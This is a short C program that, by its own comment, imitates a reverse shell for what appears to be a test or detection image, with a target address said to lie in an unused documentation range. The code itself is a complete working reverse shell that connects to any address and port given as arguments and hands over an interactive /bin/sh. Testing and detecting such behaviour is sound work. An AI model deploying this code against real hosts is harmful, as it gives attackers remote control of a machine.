// shell: imitates a reverse shell: connects to ADDRESS PORT, makes the socket its stdin, stdout and stderr,
// and becomes /bin/sh. Harmless: the address that the image uses is in TEST-NET-3 (RFC 5737), where nobody
// is.
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[2]))};
  if (inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) return 2;
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(fd, (struct sockaddr*)&to, sizeof to) != 0) {
    perror("connect");
    return 1;
  }
  for (int i = 0; i < 3; i++) dup2(fd, i);
  execl("/bin/sh", "sh", "-i", (char*)NULL);
  return 1;
}
